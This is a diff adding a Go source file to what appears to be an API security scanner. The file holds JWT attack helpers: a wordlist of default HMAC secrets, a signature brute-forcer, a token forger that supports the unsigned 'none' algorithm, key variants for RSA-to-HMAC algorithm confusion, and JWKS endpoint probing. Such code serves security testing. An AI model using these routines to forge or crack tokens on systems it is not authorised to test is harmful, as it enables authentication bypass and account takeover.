@@ -0,0 +1,297 @@
+package security_scanner
+
+import (
+	"bufio"
+	"crypto/hmac"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/sha512"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"hash"
+	"math/big"
+	"os"
+	"strings"
+
+	"github.com/blackcoderx/falcon/pkg/core/tools/shared"
+)
+
+// defaultJWTSecrets is the bundled wordlist for HMAC secret brute forcing:
+// framework defaults, tutorial values and common passwords.
+var defaultJWTSecrets = []string{
+	"secret", "secretkey", "secret_key", "secret-key", "mysecret", "my_secret", "mysecretkey", "my-secret-key",
+	"jwt", "jwtsecret", "jwt_secret", "jwt-secret", "jwtkey", "jwt_key", "jwt-secret-key", "your-256-bit-secret",
+	"your_jwt_secret", "your-secret-key", "changeme", "change_me", "changeit", "default", "key", "private",
+	"privatekey", "token", "tokensecret", "auth", "authsecret", "password", "password1", "password123",
+	"passw0rd", "admin", "admin123", "administrator", "root", "toor", "test", "test123", "testing", "dev",
+	"development", "production", "prod", "staging", "qwerty", "letmein", "welcome", "123456", "12345678",
+	"1234567890", "abc123", "iloveyou", "shhhhh", "shhhhhared-secret", "supersecret", "super_secret",
+	"topsecret", "hello", "hellojwt", "gfg_jwt_secret_key", "app_secret", "appsecret", "api_secret",
+	"apisecret", "s3cr3t", "s3cret", "secret123", "secret1", "keyboard cat", "falcon",
+}
+
+// jwtToken is a decoded JSON Web Token.
+type jwtToken struct {
+	raw        string
+	header     map[string]interface{}
+	payload    map[string]interface{}
+	rawHeader  string
+	rawPayload string
+	signature  string
+}
+
+// parseJWT decodes a compact JWT without verifying it.
+func parseJWT(token string) (*jwtToken, error) {
+	token = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(token), "Bearer "))
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return nil, fmt.Errorf("token has %d segments, expected 3", len(parts))
+	}
+
+	t := &jwtToken{raw: token, rawHeader: parts[0], rawPayload: parts[1], signature: parts[2]}
+	if err := decodeSegment(parts[0], &t.header); err != nil {
+		return nil, fmt.Errorf("invalid JWT header: %w", err)
+	}
+	if err := decodeSegment(parts[1], &t.payload); err != nil {
+		return nil, fmt.Errorf("invalid JWT payload: %w", err)
+	}
+	return t, nil
+}
+
+func decodeSegment(seg string, v interface{}) error {
+	data, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(seg, "="))
+	if err != nil {
+		return err
+	}
+	return json.Unmarshal(data, v)
+}
+
+func encodeSegment(v interface{}) string {
+	data, _ := json.Marshal(v)
+	return base64.RawURLEncoding.EncodeToString(data)
+}
+
+// alg returns the token's "alg" header.
+func (t *jwtToken) alg() string {
+	alg, _ := t.header["alg"].(string)
+	return alg
+}
+
+// signingInput returns "header.payload" as originally encoded.
+func (t *jwtToken) signingInput() string {
+	return t.rawHeader + "." + t.rawPayload
+}
+
+// cloneHeader returns a copy of the header with overrides applied.
+func (t *jwtToken) cloneHeader(overrides map[string]interface{}) map[string]interface{} {
+	out := make(map[string]interface{}, len(t.header)+len(overrides))
+	for k, v := range t.header {
+		out[k] = v
+	}
+	for k, v := range overrides {
+		out[k] = v
+	}
+	return out
+}
+
+// clonePayload returns a copy of the payload with overrides applied.
+func (t *jwtToken) clonePayload(overrides map[string]interface{}) map[string]interface{} {
+	out := make(map[string]interface{}, len(t.payload)+len(overrides))
+	for k, v := range t.payload {
+		out[k] = v
+	}
+	for k, v := range overrides {
+		out[k] = v
+	}
+	return out
+}
+
+// hmacHash returns the hash constructor for an HS* algorithm.
+func hmacHash(alg string) (func() hash.Hash, bool) {
+	switch strings.ToUpper(alg) {
+	case "HS256":
+		return sha256.New, true
+	case "HS384":
+		return sha512.New384, true
+	case "HS512":
+		return sha512.New, true
+	}
+	return nil, false
+}
+
+// signHMAC returns the base64url HMAC signature of input.
+func signHMAC(alg, input string, key []byte) string {
+	newHash, ok := hmacHash(alg)
+	if !ok {
+		newHash = sha256.New
+	}
+	mac := hmac.New(newHash, key)
+	mac.Write([]byte(input))
+	return base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+}
+
+// forgeJWT encodes a token. The "none" algorithm (in any casing) produces an
+// empty signature; HS* algorithms are signed with key.
+func forgeJWT(header, payload map[string]interface{}, key []byte) string {
+	input := encodeSegment(header) + "." + encodeSegment(payload)
+	alg, _ := header["alg"].(string)
+	if strings.EqualFold(alg, "none") {
+		return input + "."
+	}
+	return input + "." + signHMAC(alg, input, key)
+}
+
+// crackHMACSecret tries every candidate secret against an HS* token.
+func crackHMACSecret(t *jwtToken, candidates []string) (string, int, bool) {
+	if _, ok := hmacHash(t.alg()); !ok {
+		return "", 0, false
+	}
+	want, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(t.signature, "="))
+	if err != nil {
+		return "", 0, false
+	}
+
+	input := t.signingInput()
+	tried := 0
+	seen := make(map[string]bool, len(candidates))
+	for _, secret := range candidates {
+		if seen[secret] {
+			continue
+		}
+		seen[secret] = true
+		tried++
+		got, _ := base64.RawURLEncoding.DecodeString(signHMAC(t.alg(), input, []byte(secret)))
+		if hmac.Equal(got, want) {
+			return secret, tried, true
+		}
+	}
+	return "", tried, false
+}
+
+// loadWordlist reads one secret per line, skipping blanks and # comments.
+func loadWordlist(path string) ([]string, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, fmt.Errorf("failed to open wordlist: %w", err)
+	}
+	defer f.Close()
+
+	var words []string
+	scanner := bufio.NewScanner(f)
+	scanner.Buffer(make([]byte, 64*1024), 1024*1024)
+	for scanner.Scan() {
+		line := strings.TrimRight(scanner.Text(), "\r")
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		words = append(words, line)
+	}
+	if err := scanner.Err(); err != nil {
+		return nil, fmt.Errorf("failed to read wordlist: %w", err)
+	}
+	return words, nil
+}
+
+// publicKeyVariants returns the encodings a server might use as the HMAC key
+// in an algorithm-confusion attack: the PEM as given, with and without a
+// trailing newline, and PKIX/PKCS#1 re-encodings of an RSA key.
+func publicKeyVariants(pemData []byte) [][]byte {
+	var variants [][]byte
+	seen := make(map[string]bool)
+	add := func(b []byte) {
+		if len(b) > 0 && !seen[string(b)] {
+			seen[string(b)] = true
+			variants = append(variants, b)
+		}
+	}
+
+	trimmed := []byte(strings.TrimSpace(string(pemData)))
+	add(pemData)
+	add(trimmed)
+	add(append(append([]byte{}, trimmed...), '\n'))
+
+	block, _ := pem.Decode(trimmed)
+	if block == nil {
+		return variants
+	}
+	var rsaKey *rsa.PublicKey
+	if pub, err := x509.ParsePKIXPublicKey(block.Bytes); err == nil {
+		rsaKey, _ = pub.(*rsa.PublicKey)
+	} else if pub, err := x509.ParsePKCS1PublicKey(block.Bytes); err == nil {
+		rsaKey = pub
+	}
+	if rsaKey != nil {
+		for _, encoded := range rsaPEMEncodings(rsaKey) {
+			add(encoded)
+			add([]byte(strings.TrimSpace(string(encoded))))
+		}
+	}
+	return variants
+}
+
+// rsaPEMEncodings returns the PKIX and PKCS#1 PEM encodings of key.
+func rsaPEMEncodings(key *rsa.PublicKey) [][]byte {
+	var out [][]byte
+	if der, err := x509.MarshalPKIXPublicKey(key); err == nil {
+		out = append(out, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
+	}
+	out = append(out, pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(key)}))
+	return out
+}
+
+// jwksPaths are the well-known locations probed for the signing key.
+var jwksPaths = []string{"/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration/jwks", "/oauth/jwks"}
+
+// fetchJWKSPublicKey downloads the API's JWKS and returns the RSA key that
+// matches kid (or the first RSA key) as PEM.
+func fetchJWKSPublicKey(httpTool *shared.HTTPTool, baseURL, kid string) ([]byte, string) {
+	for _, path := range jwksPaths {
+		url := strings.TrimSuffix(baseURL, "/") + path
+		resp, err := httpTool.Run(shared.HTTPRequest{Method: "GET", URL: url, Timeout: 10})
+		if err != nil || resp.StatusCode != 200 {
+			continue
+		}
+
+		var jwks struct {
+			Keys []struct {
+				Kty string `json:"kty"`
+				Kid string `json:"kid"`
+				N   string `json:"n"`
+				E   string `json:"e"`
+			} `json:"keys"`
+		}
+		if json.Unmarshal([]byte(resp.Body), &jwks) != nil {
+			continue
+		}
+
+		var fallback []byte
+		for _, k := range jwks.Keys {
+			if k.Kty != "RSA" {
+				continue
+			}
+			n, errN := base64.RawURLEncoding.DecodeString(strings.TrimRight(k.N, "="))
+			e, errE := base64.RawURLEncoding.DecodeString(strings.TrimRight(k.E, "="))
+			if errN != nil || errE != nil {
+				continue
+			}
+			key := &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())}
+			encoded := rsaPEMEncodings(key)
+			if len(encoded) == 0 {
+				continue
+			}
+			if kid != "" && k.Kid == kid {
+				return encoded[0], url
+			}
+			if fallback == nil {
+				fallback = encoded[0]
+			}
+		}
+		if fallback != nil {
+			return fallback, url
+		}
+	}
+	return nil, ""
+}